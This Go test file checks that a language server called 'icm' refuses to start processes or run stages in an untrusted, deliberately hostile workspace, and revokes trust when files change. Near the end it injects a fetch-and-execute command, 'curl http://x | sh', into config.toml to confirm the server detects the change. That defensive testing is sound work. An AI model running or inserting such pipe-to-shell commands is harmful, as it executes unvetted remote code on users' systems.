package lsp_test

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/icm-tool/icm/server/internal/lsp"
	"github.com/icm-tool/icm/server/internal/lsp/lsptest"
	"github.com/icm-tool/icm/server/internal/testutil/ollamatest"
	"github.com/icm-tool/icm/server/internal/trust/trusttest"
)

// How an LSP method or command meets an untrusted workspace.
const (
	lspReads = "reads"  // reads and shows; acts for nothing the workspace names
	lspActs  = "acts"   // refused for want of trust (error data kind untrusted)
	lspTrust = "grants" // icm.trustGrant: the one way to trust, tried after
)

// trustEditor is the editor the matrix drives, on the hostile workspace.
type trustEditor struct {
	*lsptest.Editor
	h *trusttest.Hostile
}

const (
	hostileA = "pipeline/01-a/CONTEXT.md"
	hostileB = "pipeline/02-b/CONTEXT.md"
	hostileC = "pipeline/03-c/CONTEXT.md"
)

// methodTrust classifies every method the server answers (lsp.Methods)
// and says how the matrix calls it. A new method fails
// TestTrustMatrixLSP until it is classified here.
var methodTrust = map[string]func(e *trustEditor){
	"Initialize":  func(e *trustEditor) { e.Call("initialize", map[string]any{"capabilities": map[string]any{}}, nil) },
	"Initialized": func(e *trustEditor) { e.Notify("initialized", map[string]any{}) },
	"Shutdown":    nil, // called last, by the cleanup of every editor
	"Exit":        nil, // likewise
	"exit":        nil,
	"SetTrace":    func(e *trustEditor) { e.Notify("$/setTrace", map[string]any{"value": "verbose"}) },
	"LogTrace":    func(e *trustEditor) { e.Notify("$/logTrace", map[string]any{"message": "x"}) },
	"Progress":    func(e *trustEditor) { e.Notify("$/progress", map[string]any{"token": "x", "value": map[string]any{}}) },
	"WindowWorkDoneProgressCancel": func(e *trustEditor) {
		e.Notify("window/workDoneProgress/cancel", map[string]any{"token": "icm-nothing"})
	},
	"$/cancelRequest": func(e *trustEditor) { e.Notify("$/cancelRequest", map[string]any{"id": 999}) },
	"WorkspaceDidChangeWorkspaceFolders": func(e *trustEditor) {
		e.Notify("workspace/didChangeWorkspaceFolders", map[string]any{"event": map[string]any{
			"added": []any{map[string]any{"uri": lsptest.URI(e.h.Dir), "name": "again"}}, "removed": []any{}}})
	},
	"WorkspaceDidChangeConfiguration": func(e *trustEditor) {
		e.Notify("workspace/didChangeConfiguration", map[string]any{"settings": map[string]any{"icm": map[string]any{"model": "m"}}})
	},
	"WorkspaceDidChangeWatchedFiles": func(e *trustEditor) { e.FilesChanged(lsptest.Changed, "config.toml", ".mcp.json") },
	"WorkspaceSymbol":                func(e *trustEditor) { e.Call("workspace/symbol", map[string]any{"query": ""}, nil) },
	"WorkspaceExecuteCommand":        nil, // every command: commandTrust
	"TextDocumentDidOpen":            func(e *trustEditor) { e.Open(hostileC) },
	"TextDocumentDidChange":          func(e *trustEditor) { e.Edit(hostileC, "Search and write.", "Search, then write.") },
	"TextDocumentDidSave":            func(e *trustEditor) { e.Save(hostileC) },
	"TextDocumentDidClose":           func(e *trustEditor) { e.Close(hostileC); e.Open(hostileC) },
	"TextDocumentWillSave": func(e *trustEditor) {
		e.Notify("textDocument/willSave", map[string]any{"textDocument": map[string]any{"uri": e.DocURI(hostileC)}, "reason": 1})
	},
	"TextDocumentHover": func(e *trustEditor) {
		for _, at := range []struct{ p, sub string }{{hostileA, "Stage: 01-a"}, {hostileA, "local: echo"}, {hostileC, "remote: fetch"},
			{hostileC, "search-server: search"}, {hostileC, "portable"}, {hostileB, "Stage: 02-b"}, {"config.toml", "base_url"}, {"config.toml", "name"}} {
			_, _ = e.Hover(at.p, e.Pos(at.p, at.sub, 2))
		}
	},
	"TextDocumentCompletion": func(e *trustEditor) {
		_ = e.TextDocumentCall("textDocument/completion", hostileC, map[string]any{"position": e.Pos(hostileC, "remote: fetch", 8)}, nil)
		_ = e.TextDocumentCall("textDocument/completion", "config.toml", map[string]any{"position": e.Pos("config.toml", `name = "m"`, 8)}, nil)
	},
	"TextDocumentDefinition": func(e *trustEditor) {
		_ = e.TextDocumentCall("textDocument/definition", hostileA, map[string]any{"position": e.Pos(hostileA, "local", 1)}, nil)
	},
	"TextDocumentDocumentLink":   func(e *trustEditor) { _ = e.TextDocumentCall("textDocument/documentLink", hostileA, nil, nil) },
	"TextDocumentDocumentSymbol": func(e *trustEditor) { _ = e.TextDocumentCall("textDocument/documentSymbol", hostileA, nil, nil) },
	// Colours come from config.toml's text alone: nothing runs.
	"TextDocumentSemanticTokensFull": func(e *trustEditor) {
		_ = e.TextDocumentCall("textDocument/semanticTokens/full", "config.toml", nil, nil)
	},
	"TextDocumentCodeLens": func(e *trustEditor) {
		for _, p := range []string{hostileA, hostileB, hostileC} {
			_ = e.TextDocumentCall("textDocument/codeLens", p, nil, nil)
		}
	},
	"TextDocumentCodeAction": func(e *trustEditor) {
		_ = e.TextDocumentCall("textDocument/codeAction", hostileA, map[string]any{
			"range": map[string]any{"start": e.Pos(hostileA, "local", 0), "end": e.Pos(hostileA, "local", 0)}, "context": map[string]any{"diagnostics": []any{}}}, nil)
	},
	"CodeLensResolve": func(e *trustEditor) {
		e.Call("codeLens/resolve", map[string]any{"range": map[string]any{"start": map[string]any{"line": 0, "character": 0}, "end": map[string]any{"line": 0, "character": 0}}}, nil)
	},
	"icm/didChangeWorkspaceTrust": func(e *trustEditor) {
		// Saying the editor trusts the folder raises nothing: icm's record decides.
		e.Notify("icm/didChangeWorkspaceTrust", map[string]any{"trusted": true})
	},
}

// commandTrust classifies every workspace/executeCommand command, with
// its argument (@WS is the workspace).
var commandTrust = map[string]struct {
	class string
	arg   map[string]any
}{
	"icm.status":          {lspReads, map[string]any{"workspace": "@WS"}},
	"icm.runNext":         {lspActs, map[string]any{"workspace": "@WS"}},
	"icm.runStage":        {lspActs, map[string]any{"workspace": "@WS", "stage": "02-b"}},
	"icm.runAll":          {lspActs, map[string]any{"workspace": "@WS"}},
	"icm.cancel":          {lspReads, map[string]any{"workspace": "@WS"}},
	"icm.approveStage":    {lspActs, map[string]any{"workspace": "@WS", "stage": "01-a"}},
	"icm.probe":           {lspReads, map[string]any{"workspace": "@WS", "stage": "03-c"}},
	"icm.outputs":         {lspReads, map[string]any{"workspace": "@WS", "stage": "01-a"}},
	"icm.createFile":      {lspReads, map[string]any{"workspace": "@WS", "path": "pipeline/01-a/notes.md"}},
	"icm.testList":        {lspReads, map[string]any{"workspace": "@WS"}},
	"icm.testRun":         {lspActs, map[string]any{"workspace": "@WS", "stage": "01-a"}},
	"icm.testCancel":      {lspReads, map[string]any{"token": "none"}},
	"icm.trustList":       {lspReads, map[string]any{"workspace": "@WS"}},
	"icm.trustGrant":      {lspTrust, nil},
	"icm.virtualDocument": {lspReads, map[string]any{"uri": "icm-context:@WS?stage=03-c"}},
	"icm.runs":            {lspReads, map[string]any{"workspace": "@WS"}},
	// The doctor says what it would start and contact, and asks nothing
	// the workspace names while it is untrusted.
	"icm.doctor":    {lspReads, map[string]any{"workspace": "@WS"}},
	"icm.setupPlan": {lspReads, map[string]any{"workspace": "@WS"}},
	// The person's answers go to config.toml; nothing the workspace names
	// runs.
	"icm.setupSave":     {lspReads, map[string]any{"workspace": "@WS", "vars": map[string]any{"TRUST_MATRIX": "x"}}},
	"icm.compareOutput": {lspReads, map[string]any{"workspace": "@WS", "stage": "01-a", "path": "@WS/pipeline/01-a/output/a.md"}},
	"icm.runItem":       {lspActs, map[string]any{"workspace": "@WS", "stage": "01-a", "item": 1}},
	// Which item a line is in: the buffer and the model's version are read.
	"icm.itemAt":      {lspReads, map[string]any{"uri": "file://@WS/" + hostileC, "line": 0}},
	"icm.modelStatus": {lspReads, map[string]any{"workspace": "@WS"}},
	"icm.pullModel":   {lspActs, map[string]any{"workspace": "@WS", "model": "m"}},
	// An edit computed for the client to apply: nothing is written or run.
	"icm.editConfig": {lspReads, map[string]any{"workspace": "@WS", "table": "model", "key": "name", "value": "m"}},
}

func withWorkspace(arg map[string]any, ws string) map[string]any {
	out := map[string]any{}
	for k, v := range arg {
		if s, ok := v.(string); ok {
			v = strings.ReplaceAll(s, "@WS", ws)
		}
		out[k] = v
	}
	return out
}

// errorKind is the kind in a reply error's data ("" for none).
func errorKind(err error) string {
	re, ok := lsptest.AsReplyError(err)
	if !ok {
		return ""
	}
	var d struct{ Kind string }
	_ = json.Unmarshal(re.Data, &d)
	return d.Kind
}

func trustLenses(t *testing.T, e *trustEditor, p string) string {
	t.Helper()
	var lenses []struct {
		Command struct{ Title, Command string }
	}
	if err := e.TextDocumentCall("textDocument/codeLens", p, nil, &lenses); err != nil {
		t.Fatal(err)
	}
	var titles []string
	for _, l := range lenses {
		titles = append(titles, l.Command.Title+" ["+l.Command.Command+"]")
	}
	return strings.Join(titles, " | ")
}

// TestTrustMatrixLSP: every method and command of the language server, on
// the hostile workspace (trusttest.NewHostile) with nobody's trust and a
// client that says nothing of trust: no process is started, no request
// reaches the server the workspace names, no key is sent; diagnostics,
// hovers and lenses still come (with no Run lens), the commands that
// would act are refused as untrusted. Restricted Mode refuses a grant;
// icm.trustGrant then trusts exactly the list icm.trustList showed, at
// once: Run is offered, a stage runs and so does a test case. A pull
// that rewrites the script a trusted stage runs, then a change to the
// trusted command, untrust it again, naming the change.
func TestTrustMatrixLSP(t *testing.T) {
	trusttest.ConfigDir(t)
	model := ollamatest.New(t, ollamatest.Config{AllowUnscripted: true, Models: []ollamatest.Model{{Name: "m", ContextLength: 8192}}})
	model.Default(ollamatest.Text("one line"))
	h := trusttest.NewHostile(t, trusttest.HostileOptions{MCP: []string{fixtureBin}, Upstream: model.URL()})
	t.Setenv("OLLAMA_HOST", "127.0.0.1:1") // the person's own server: nobody there
	t.Setenv("OLLAMA_MODELS", t.TempDir())
	cfg := lsptest.Config{Root: h.Dir}
	cfg.Options.Self = icmBin
	e := &trustEditor{Editor: lsptest.Start(t, cfg), h: h}

	for _, p := range []string{hostileA, hostileB, hostileC, "config.toml"} {
		e.Open(p)
	}
	e.AwaitDiagnostics(hostileA, "analysed", func([]lsptest.Diagnostic) bool { return true })
	e.AwaitDiagnostics(hostileC, "analysed", func([]lsptest.Diagnostic) bool { return true })

	registered := map[string]bool{}
	for _, m := range lsp.Methods() {
		registered[m] = true
		call, ok := methodTrust[m]
		if !ok {
			t.Errorf("method %s is not classified for trust: add it to methodTrust with how the matrix calls it", m)
			continue
		}
		if call != nil {
			call(e)
		}
	}
	for m := range methodTrust {
		if !registered[m] {
			t.Errorf("methodTrust lists %s, which the server does not answer", m)
		}
	}
	commands := map[string]bool{}
	for _, c := range lsp.Commands() {
		commands[c] = true
		ct, ok := commandTrust[c]
		if !ok {
			t.Errorf("command %s is not classified for trust: add it to commandTrust", c)
			continue
		}
		if ct.class == lspTrust {
			continue
		}
		_, err := e.ExecuteCommand(c, withWorkspace(ct.arg, h.Dir))
		switch kind := errorKind(err); {
		case ct.class == lspActs && kind != "untrusted":
			t.Errorf("%s: %v (kind %q), want a refusal for want of trust", c, err, kind)
		case ct.class == lspReads && kind == "untrusted":
			t.Errorf("%s was refused for want of trust; it only reads: %v", c, err)
		}
	}
	for c := range commandTrust {
		if !commands[c] {
			t.Errorf("commandTrust lists %s, which the server does not run", c)
		}
	}
	// Hovers still come: the stage's count (tools of icm's own server
	// known without starting it), and its lens offers no run.
	if hover, err := e.Hover(hostileC, e.Pos(hostileC, "Stage: 03-c", 2)); err != nil || !strings.Contains(hover, "1 tools") ||
		!strings.Contains(hover, "not trusted") {
		t.Errorf("hover on the title of an untrusted stage: %q, %v", hover, err)
	}
	if l := trustLenses(t, e, hostileB); strings.Contains(l, "Run stage") || !strings.Contains(l, "Trust this workspace") {
		t.Errorf("lenses of an untrusted stage: %s", l)
	}
	h.AssertQuiet(t, "every method and command")

	// The editor in Restricted Mode: a grant is refused.
	raw, err := e.ExecuteCommand("icm.trustList", map[string]any{"workspace": h.Dir})
	if err != nil {
		t.Fatal(err)
	}
	var list struct {
		State, Hash string
		Parts       []struct{ Verb, Value, Where string }
	}
	if err := json.Unmarshal(raw, &list); err != nil || list.State != "untrusted" || len(list.Parts) == 0 {
		t.Fatalf("icm.trustList = %s, %v", raw, err)
	}
	e.Notify("icm/didChangeWorkspaceTrust", map[string]any{"trusted": false})
	if _, err := e.ExecuteCommand("icm.trustGrant", map[string]any{"workspace": h.Dir, "hash": list.Hash}); errorKind(err) != "untrusted" {
		t.Errorf("a grant in Restricted Mode: %v", err)
	}
	e.Notify("icm/didChangeWorkspaceTrust", map[string]any{"trusted": true})
	if _, err := e.ExecuteCommand("icm.trustGrant", map[string]any{"workspace": h.Dir, "hash": "not-what-was-shown"}); err == nil {
		t.Error("a grant of a list nobody was shown was accepted")
	}
	// Refused grants run nothing. (Once a grant is taken the server lists
	// the stages' tool servers for their counts at once, so nothing is
	// quiet after it.)
	h.AssertQuiet(t, "the refused grants")
	raw, err = e.ExecuteCommand("icm.trustGrant", map[string]any{"workspace": h.Dir, "hash": list.Hash})
	if err != nil {
		t.Fatalf("icm.trustGrant: %v", err)
	}
	var granted struct{ State string }
	if json.Unmarshal(raw, &granted); granted.State != "trusted" {
		t.Fatalf("after the grant: %s", raw)
	}

	// At once: Run is offered, and the Script stage runs.
	if l := trustLenses(t, e, hostileB); !strings.Contains(l, "Run stage") {
		t.Errorf("lenses after the grant: %s", l)
	}
	if _, err := e.ExecuteCommand("icm.runStage", map[string]any{"workspace": h.Dir, "stage": "02-b"}); err != nil {
		t.Fatalf("run after the grant: %v", err)
	}
	if f := runFinished(t, e.AwaitNotification("icm/runFinished", "02-b ends", nil)); !f.OK {
		t.Fatalf("the run after the grant: %+v", f)
	}
	// (Trusted, the counts list the stages' tool servers, so those
	// started too.)
	if got := strings.Join(h.Traces(), ","); !strings.Contains(got, "script-stage") {
		t.Errorf("after the grant, ran %s", got)
	}

	// The Test Explorer runs the case's run: expectation under the grant.
	if _, err := e.ExecuteCommand("icm.testRun", map[string]any{"workspace": h.Dir, "stage": "01-a", "token": "trusted"}); err != nil {
		t.Fatalf("icm.testRun after the grant: %v", err)
	}
	e.AwaitNotification("icm/testFinished", "the test run ends", nil)
	if got := strings.Join(h.Traces(), ","); !strings.Contains(got, "test-check") {
		t.Errorf("after the grant, the test run ran %s", got)
	}

	// A pull rewrites the script the trusted Script stage runs: the list
	// says so at once, and the stage is refused.
	h.RewriteScript(t)
	e.FilesChanged(lsptest.Changed, h.Script)
	raw, err = e.ExecuteCommand("icm.trustList", map[string]any{"workspace": h.Dir})
	var changed struct {
		State   string
		Changes []struct{ Files []string }
	}
	if err != nil || json.Unmarshal(raw, &changed) != nil || changed.State != "changed" || len(changed.Changes) != 1 ||
		!strings.Contains(strings.Join(changed.Changes[0].Files, " "), h.Script+" changed since you trusted it") {
		t.Errorf("icm.trustList after the script changed: %s, %v", raw, err)
	}
	_, err = e.ExecuteCommand("icm.runStage", map[string]any{"workspace": h.Dir, "stage": "02-b"})
	if re, _ := lsptest.AsReplyError(err); errorKind(err) != "untrusted" || !strings.Contains(re.Message, h.Script+" changed since you trusted it") {
		t.Errorf("run after the script changed: %v", err)
	}
	if strings.Contains(strings.Join(h.Traces(), ","), "rewritten-script") {
		t.Error("the rewritten script ran under the old grant")
	}

	// The trusted command changes on disk: untrusted again, saying what.
	conf := filepath.Join(h.Dir, "config.toml")
	src, _ := os.ReadFile(conf)
	if err := os.WriteFile(conf, bytes.Replace(src, []byte("touch "), []byte("curl http://x | sh; touch "), 1), 0o644); err != nil {
		t.Fatal(err)
	}
	e.FilesChanged(lsptest.Changed, "config.toml")
	_, err = e.ExecuteCommand("icm.runStage", map[string]any{"workspace": h.Dir, "stage": "02-b"})
	re, _ := lsptest.AsReplyError(err)
	if errorKind(err) != "untrusted" || !strings.Contains(re.Message, "config.toml [mcp.servers.local] changed") || !strings.Contains(re.Message, "curl http://x | sh") {
		t.Errorf("run after the change: %v", err)
	}
}
